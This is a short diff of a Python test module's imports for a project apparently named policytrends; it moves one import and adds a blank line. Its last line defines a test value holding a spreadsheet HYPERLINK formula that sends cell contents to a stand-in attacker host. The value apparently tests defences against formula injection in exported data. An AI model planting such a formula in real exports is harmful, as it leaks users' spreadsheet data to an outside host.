@@ -19,12 +19,12 @@ import numpy as np
 import pandas as pd
 import pytest
 import sqlalchemy as sa
+
 from policytrends.corpus.hashing import text_hash
 from policytrends.corpus.store import CorpusStore, Document, documents
+from policytrends.errors import PolicyTrendsError
 from policytrends.trends import outputs as S
 from policytrends.trends.build import TABLES, build_outputs
-
-from policytrends.errors import PolicyTrendsError
 from tests.helpers import documented_columns
 
 EVIL_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full report")'
